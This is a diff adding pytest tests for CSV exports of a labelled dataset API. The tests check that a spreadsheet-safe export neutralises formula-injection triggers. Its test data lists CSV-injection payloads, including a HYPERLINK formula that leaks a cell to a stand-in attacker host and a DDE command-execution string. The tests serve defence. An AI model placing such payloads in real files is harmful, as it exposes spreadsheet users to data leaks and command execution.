@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -261,3 +262,67 @@ def test_nul_bytes_in_parameters_are_400(golds, api) -> None:
     bad_filter = {"filters": {"languages": ["e\x00n"]}}
     assert api.post("/api/v1/datasets/hate-en/versions/", bad_filter, format="json").status_code == 400
     assert api.post("/api/v1/datasets/", {**DATASET, "slug": "nul", "name": "x\x00"}, format="json").status_code == 400
+
+
+# Cells a spreadsheet would evaluate: each of OWASP's CSV-injection triggers, in content fields.
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def formula_golds(hate, make_gold):  # type: ignore[no-untyped-def]
+    made = [make_gold(hate, ["violating"], text=text, external_id=f"c{n}") for n, text in enumerate(FORMULA_TEXTS)]
+    made.append(make_gold(hate, text="plain", title="=1+1", external_id="-7", metadata={"region": "@eu"}))
+    return made
+
+
+def _csv_cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode(), newline="")))
+
+
+def test_canonical_csv_keeps_formula_looking_cells_exactly(formula_golds, api, reader) -> None:
+    version = create_version(api)
+    jsonl = body(reader.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "jsonl"}))
+    assert hashlib.sha256(jsonl).hexdigest() == version["content_hash"]
+    response = reader.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "csv"})
+    assert response.status_code == 200 and response["Content-Disposition"] == 'attachment; filename="hate-en-v1.csv"'
+    header, *rows = _csv_cells(body(response))
+    by_id = {row[header.index("external_id")]: row for row in rows}
+    texts = [by_id[f"c{n}"][header.index("text")] for n in range(len(FORMULA_TEXTS))]
+    assert texts == FORMULA_TEXTS  # the exact values, for code
+    plain = by_id["-7"]
+    assert (plain[header.index("title")], plain[header.index("region")]) == ("=1+1", "@eu")
+
+
+def test_spreadsheet_csv_neutralises_every_formula_trigger(formula_golds, api, reader) -> None:
+    create_version(api)
+    url = "/api/v1/datasets/hate-en/versions/1/export"
+    response = reader.get(url, {"format": "csv-excel"})
+    assert response.status_code == 200, response.content
+    assert response["Content-Type"].startswith("text/csv")
+    assert response["Content-Disposition"] == 'attachment; filename="hate-en-v1.spreadsheet.csv"'
+    safe = _csv_cells(body(response))
+    canonical = _csv_cells(body(reader.get(url, {"format": "csv"})))
+    header = safe[0]
+    assert header == canonical[0] and len(safe) == len(canonical) == len(formula_golds) + 1
+    by_id = {row[header.index("external_id")]: row for row in safe[1:]}
+    texts = [by_id[f"c{n}"][header.index("text")] for n in range(len(FORMULA_TEXTS))]
+    assert texts == ["'" + text for text in FORMULA_TEXTS]
+    plain = by_id["'-7"]
+    assert [plain[header.index(name)] for name in ("title", "region", "text")] == ["'=1+1", "'@eu", "plain"]
+    # Every other cell is the canonical one; no cell of the safe file starts with a trigger.
+    for safe_row, row in zip(safe[1:], canonical[1:], strict=True):
+        for safe_cell, cell in zip(safe_row, row, strict=True):
+            assert safe_cell == ("'" + cell if cell.startswith(TRIGGERS) else cell)
+            assert not safe_cell.startswith(TRIGGERS)
+    # A background job writes the same bytes into its file, for the same format.
+    job = reader.get(url, {"format": "csv-excel", "background": "true"}).json()
+    export_run(job_id=job["id"])
+    assert body(reader.get(f"{job['url']}/download")) == body(reader.get(url, {"format": "csv-excel"}))
